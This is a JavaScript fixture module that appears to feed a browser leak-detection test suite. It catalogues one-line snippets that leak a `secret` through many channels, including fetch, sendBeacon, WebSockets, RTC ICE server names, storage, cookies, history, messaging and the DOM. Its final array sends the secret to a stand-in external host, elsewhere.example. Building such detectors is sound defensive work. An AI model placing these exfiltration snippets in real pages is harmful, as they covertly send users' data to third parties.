/** Ways out of a page, each as code that takes one with `secret`: what the spies of spy.js, the places of `remains` and the wire must see. */

/** Channel, and code that leaks by it. @type {[channel: string, code: string][]} */
export const LEAKS = [
  ["fetch", "fetch('/gone?' + secret)"], ["fetch", "fetch('/gone', { method: 'POST', body: secret })"], ["fetch", "fetch(new Request('/gone', { headers: { 'x-a': secret } }))"],
  ["XMLHttpRequest", "(() => { const one = new XMLHttpRequest(); one.open('POST', '/gone'); one.send(secret); })()"],
  ["sendBeacon", "navigator.sendBeacon('/gone', secret)"], ["new WebSocket", "new WebSocket('ws://127.0.0.1:9/' + secret)"], ["new EventSource", "new EventSource('/gone?' + secret).close()"],
  ["new RTCPeerConnection", "new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + secret + '.example' }] }).close()"],
  ["new RTCPeerConnection", "new RTCPeerConnection({ iceServers: [{ urls: 'turn:a.example', username: btoa('name:' + secret), credential: 'x' }] }).close()"],
  ["Storage", "localStorage.setItem('a', secret)"], ["Storage", "sessionStorage.a = secret"], ["indexedDB", "indexedDB.open(secret)"], ["caches", "caches.open(secret)"],
  ["cookie", "document.cookie = 'a=' + secret"], ["window.name", "window.name = secret"], ["console", "console.debug({ a: [secret] })"], ["console", "console.error(new Error(secret))"],
  ["history", "history.pushState(null, '', '?' + secret)"], ["history", "history.replaceState({ a: secret }, '')"], ["performance", "performance.mark(secret)"], ["title", "document.title = secret"],
  ["window.postMessage", "postMessage(secret, '*')"], ["MessagePort", "new MessageChannel().port1.postMessage({ a: secret })"], ["BroadcastChannel", "new BroadcastChannel('a').postMessage(secret)"],
  ["to worker /control-worker.js", "control.postMessage({ a: new Map([[1, secret]]) })"], ["new Blob", "new Blob(['a' + secret])"],
  ["new CustomEvent", "new CustomEvent('a', { detail: { a: secret } })"], ["dispatchEvent", "stage.dispatchEvent(Object.assign(new Event('a'), { detail: secret }))"],
  ["attribute", "stage.dataset.a = secret"], ["attribute", "stage.style.setProperty('--a', secret)"], ["attribute", "stage.append(Object.assign(document.createElement('a'), { href: '/' + secret }))"],
  ["attribute", "(() => { const host = document.createElement('div'); stage.append(host); const p = document.createElement('p'); host.attachShadow({ mode: 'open' }).append(p); p.title = secret; })()"],
  ["text", "stage.append(secret)"], ["value", "document.createElement('input').value = secret"], ["error", "setTimeout(() => { throw new Error(secret); })"], ["error", "void Promise.reject(new Error(encodeURIComponent(secret + ' %')))"],
  ["style", "(() => { const style = document.createElement('style'); stage.append(style); style.sheet.insertRule('a { --a: ' + secret + ' }'); })()"],
];
/** In a thread. @type {[channel: string, code: string][]} */
export const THREAD_LEAKS = [
  ["fetch", "fetch('/gone?' + secret)"], ["XMLHttpRequest", "(() => { const one = new XMLHttpRequest(); one.open('GET', '/gone?' + secret); one.send(); })()"], ["new WebSocket", "new WebSocket('ws://127.0.0.1:9/' + secret)"],
  ["indexedDB", "indexedDB.open(secret)"], ["caches", "caches.open(secret)"], ["console", "console.info(secret)"], ["from worker", "postMessage({ a: { b: secret } })"],
  ["BroadcastChannel", "new BroadcastChannel('a').postMessage(secret)"], ["performance", "performance.mark(secret)"], ["new Blob", "new Blob([secret])"],
];
/** Place, and code that leaves something in it. @type {[place: string, code: string][]} */
export const LEFT = [
  ["document", "stage.title = secret"], ["document", "stage.append(document.createComment(secret))"],
  ["document", "(() => { const host = document.createElement('div'); stage.append(host); host.attachShadow({ mode: 'open' }).innerHTML = '<i title=\"' + secret + '\"></i>'; })()"],
  ["values", "stage.append(Object.assign(document.createElement('input'), { type: 'hidden', value: secret }))"], ["storage", "localStorage.a = secret"], ["storage", "document.cookie = 'a=' + secret"],
  ["databases", "new Promise((done) => (indexedDB.open(secret).onsuccess = done))"], ["databases", "caches.open(secret)"], ["address", "location.hash = secret"], ["address", "history.replaceState({ a: secret }, '')"],
  ["performance", "performance.mark(secret)"], ["performance", "fetch('/gone?' + secret).then((one) => one.text())"], ["globals", "window.kept = secret"], ["globals", "window.kept = btoa(secret)"],
];
/** What comes in at a server, here or elsewhere. @type {["here" | "there", string][]} */
export const SENT = [
  ["here", "new Image().src = '/nothing.gif?' + secret"], ["here", "stage.style.backgroundImage = 'url(/nothing.gif?' + encodeURIComponent(secret) + ')'"],
  ["here", "fetch('/gone', { headers: { 'x-a': secret } })"], ["here", "fetch('/gone', { method: 'POST', body: btoa(secret) })"], ["here", "import('/gone.js?' + secret).catch(() => {})"],
  ["here", "stage.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: '/gone?' + secret }))"],
  ["there", "new Image().src = 'http://elsewhere.example/' + secret"], ["there", "fetch('http://elsewhere.example/', { method: 'POST', mode: 'no-cors', body: secret })"], ["there", "navigator.sendBeacon('http://elsewhere.example/' + secret)"],
];
